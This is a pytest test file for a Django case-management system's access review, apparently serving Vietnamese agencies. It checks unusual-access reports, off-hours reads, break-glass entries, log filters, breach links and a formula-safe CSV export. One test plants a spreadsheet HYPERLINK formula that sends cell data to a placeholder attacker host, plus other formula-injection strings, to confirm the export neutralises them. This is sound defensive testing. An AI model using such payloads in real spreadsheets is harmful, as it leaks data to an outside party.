"""Access review and the unusual-access report against hand-computed answers; the CSV export is
audited and formula-safe.

Reads are made through the real audited service (case_view) at chosen times: the audit trail is
append-only, so the clock is moved instead of the rows.
"""

import csv
import datetime
import io

import pytest
import time_machine
from django.utils import timezone

from agencies.services import membership_add
from audit.models import AuditEvent
from cases.breakglass import break_glass_open
from cases.services import case_view
from notifications.calendar import VIETNAM
from notifications.models import PublicHoliday
from supervision.access_review import AccessFilters, access_log, csv_safe, unusual_access_report
from tests.conftest import make_user
from tests.supervision.conftest import REGISTER_ONCE, grant_break_glass

pytestmark = REGISTER_ONCE

DAY = datetime.timedelta(days=1)


def read(user, case, at=None):
    if at is None:
        return case_view(user=user, case_id=case.pk)
    with time_machine.travel(at, tick=False):
        return case_view(user=user, case_id=case.pk)


@pytest.fixture
def monday(register) -> datetime.date:
    """A Monday two to three weeks ago (Viet Nam), inside the default 30-day period."""
    day = timezone.localtime(register.now, VIETNAM).date() - 14 * DAY
    return day - datetime.timedelta(days=day.weekday())


def local(day: datetime.date, hour: int, minute: int = 0) -> datetime.datetime:
    return datetime.datetime.combine(day, datetime.time(hour, minute), tzinfo=VIETNAM)


@pytest.fixture
def staff(world):
    people = {}
    for name in ("curious", "night_owl"):
        people[name] = make_user(name)
        membership_add(user=people[name], agency=world.police, role="responder")
    return people


@pytest.fixture
def reads(world, register, staff, monday):
    """curious reads the police's four cases (1, 2, 3, 5) and never acts; lead_responder reads 1, 2, 3
    (it acted on 1 only); night_owl reads case 1 at seven moments around working hours; someone
    reads case 4, which health leads."""
    r = register
    police_cases = [r.h1.case, r.h2.case, r.h3.case, r.h5.case]
    for case in police_cases:
        read(staff["curious"], case, local(monday + DAY, 10))
        read(staff["curious"], case, local(monday + DAY, 11))
    for case in police_cases[:3]:
        read(world.lead_responder, case, local(monday + DAY, 9))
    PublicHoliday.objects.create(date=monday + 2 * DAY, name="Ngày lễ thử nghiệm")
    moments = {
        "mon 06:59": (local(monday, 6, 59), True),
        "mon 07:00": (local(monday, 7), False),
        "mon 17:59": (local(monday, 17, 59), False),
        "mon 18:00": (local(monday, 18), True),
        "tue 10:00": (local(monday + DAY, 10), False),
        "holiday wed 10:00": (local(monday + 2 * DAY, 10), True),
        "sat 10:00": (local(monday + 5 * DAY, 10), True),
    }
    for at, _off in moments.values():
        read(staff["night_owl"], r.h1.case, at)
    read(world.lead_responder, r.h4.case, local(monday, 3))
    return moments


def test_heavy_readers_are_those_reading_cases_they_never_acted_on(world, register, staff, reads):
    report = unusual_access_report(agency=world.police, min_cases=2)
    got = [(r["actor_username"], r["cases"], r["reads"]) for r in report.heavy_readers]
    # lead_responder acted on case 1 (conftest), so only cases 2 and 3 count for it.
    assert got == [("curious", 4, 8), ("lead_responder", 2, 2)]
    report = unusual_access_report(agency=world.police, min_cases=3)
    assert [r["actor_username"] for r in report.heavy_readers] == ["curious"]
    assert unusual_access_report(agency=world.police, min_cases=5).heavy_readers == []


def test_the_unusual_access_page_has_a_row_for_each_heavy_reader_or_no_table(client, world, reads):
    client.force_login(world.lead_supervisor)
    page = client.get("/supervision/unusual-access/?min_cases=2").content.decode()
    table = page[page.index('data-testid="heavy-readers"'):]
    table = table[:table.index("</table>")]
    assert table.count("<tr><td>") == 2
    assert "<tr><td>curious</td><td>4</td><td>8</td>" in table
    assert "<tr><td>lead_responder</td><td>2</td><td>2</td>" in table
    assert 'data-testid="heavy-readers"' not in client.get("/supervision/unusual-access/?min_cases=5").content.decode()


def test_reads_outside_working_hours_in_viet_nam(world, register, staff, reads):
    report = unusual_access_report(agency=world.police)
    expected = sorted(at for at, off in reads.values() if off)
    night = [e for e in report.off_hours_reads if e.actor_username == "night_owl"]
    assert sorted(e.at for e in night) == expected
    assert [(r["actor_username"], r["reads"], r["cases"]) for r in report.off_hours_readers] == [("night_owl", 4, 1)]
    # The 03:00 read of case 4 concerns health, which leads it.
    health = unusual_access_report(agency=world.health)
    assert [(r["actor_username"], r["reads"]) for r in health.off_hours_readers] == [("lead_responder", 1)]


def test_the_period_bounds_the_report(world, register, staff, reads, monday):
    report = unusual_access_report(agency=world.police, since=monday + DAY, until=monday + DAY, min_cases=1)
    assert [(r["actor_username"], r["cases"]) for r in report.heavy_readers] == [
        ("curious", 4), ("lead_responder", 2), ("night_owl", 1)]
    assert report.off_hours_readers == []


def test_break_glass_uses_are_in_the_report(world, register, break_glass_use):
    assert [u.pk for u in unusual_access_report(agency=world.police).break_glass] == [break_glass_use.pk]
    assert [u.pk for u in unusual_access_report(agency=world.school).break_glass] == [break_glass_use.pk]
    assert unusual_access_report(agency=world.health).break_glass == []


def test_access_log_holds_only_the_agency_cases(world, register, staff, reads):
    log = access_log(agency=world.police)
    case_ids = set(log.values_list("case_id", flat=True))
    assert case_ids == {register.h1.case_id, register.h2.case_id, register.h3.case_id, register.h5.case_id}
    assert register.h4.case_id in set(access_log(agency=world.health).values_list("case_id", flat=True))
    first = log.first()
    assert first.case_number and first.agency_name == world.police.name


def test_every_access_filter(world, register, staff, reads, monday, break_glass_use):
    police, r = world.police, register

    def count(**filters):
        return access_log(agency=police, filters=AccessFilters(**filters)).count()

    assert count(actor="curious") == 8
    assert count(actor="curious", case_id=r.h2.case_id) == 2
    assert count(actor="night_owl", action="view") == 7
    assert count(actor="night_owl", action="create") == 0
    assert count(action="break_glass") == 1
    assert count(action="break_glass", category="medical") == 1
    assert count(action="break_glass", category="identity") == 0
    assert count(actor="night_owl", since=monday, until=monday) == 4
    assert count(actor="night_owl", since=monday + 5 * DAY) == 1
    # Reads name the categories shown: the police lead sees all of them.
    assert count(actor="curious", category="psychosocial") == 8
    assert count(actor="outsider_responder") == 1


def test_csv_cells_that_look_like_formulas_become_text():
    for text in ("=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert csv_safe(text) == "'" + text
    for text in ("Bệnh viện", "", "1-2", "a=b", None, 12):
        assert csv_safe(text) == ("" if text is None else str(text))


def test_csv_export_is_audited_and_formula_safe(world, register, web):
    evil = grant_break_glass(make_user("-2+3"))
    reason = '=HYPERLINK("http://attacker.invalid/?x="&A1,"Bấm vào đây để xem hồ sơ")'
    break_glass_open(user=evil, case_number=register.h1.case.number, reason=reason, categories=[])
    read(evil, register.h1.case)
    client = web(world.lead_supervisor)
    response = client.get(f"/supervision/access/export.csv?case={register.h1.case.number}&actor=-2%2B3")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content)
    # A byte-order mark first, so that Excel reads the Vietnamese as UTF-8.
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["time", "case_number", "actor"]
    # Times on Viet Nam's clock, the offset written out.
    assert all(row[0].endswith("+07:00") for row in rows[1:])
    assert len(rows) == 3
    assert {row[2] for row in rows[1:]} == {"'-2+3"}
    # The break-glass reason stays sealed in its row (issue 12): the trail, and so the export, holds none.
    assert {row[7] for row in rows[1:]} == {""}
    export = AuditEvent.objects.get(action="export")
    assert (export.actor, export.agency_id, export.case_id, export.target) == (
        world.lead_supervisor, world.police.pk, register.h1.case_id, "access_log")
    assert export.details["rows"] == 2 and export.details["filters"]["actor"] == "-2+3"


def test_a_flagged_read_links_to_the_breach_that_cites_it(world, register, staff, reads, api, web):
    from privacy.breaches.services import breach_record

    report = unusual_access_report(agency=world.police)
    flagged = next(e for e in report.off_hours_reads if e.actor_username == "night_owl")
    assert flagged.breach_ids == [] and report.breaches == []
    breach = breach_record(actor=world.sysadmin, discovered_at=timezone.now(), description="Đọc hồ sơ ban đêm",
                           contact_point="CNTT", affected_agencies=[world.police], access_events=[flagged.seq])
    report = unusual_access_report(agency=world.police)
    assert [e.breach_ids for e in report.off_hours_reads if e.seq == flagged.seq] == [[breach.pk]]
    assert [b.pk for b in report.breaches] == [breach.pk]
    # The API gives the read's number and the breach; the page links to it.
    body = api(world.lead_supervisor).get("/api/supervision/unusual-access/").json()
    [read_out] = [r for r in body["off_hours_reads"] if r["seq"] == flagged.seq]
    assert read_out["breaches"] == [breach.pk]
    assert body["breaches"][0]["id"] == breach.pk and body["breaches"][0]["access_events"] == [flagged.seq]
    page = web(world.lead_supervisor).get("/supervision/unusual-access/").content.decode()
    assert f"#{flagged.seq}" in page and f"/audit/breaches/{breach.pk}/" in page
    assert "Đọc hồ sơ ban đêm" not in page  # the description stays on the breach page
    # Another agency's supervisor sees neither the breach nor the link.
    assert unusual_access_report(agency=world.school).breaches == []
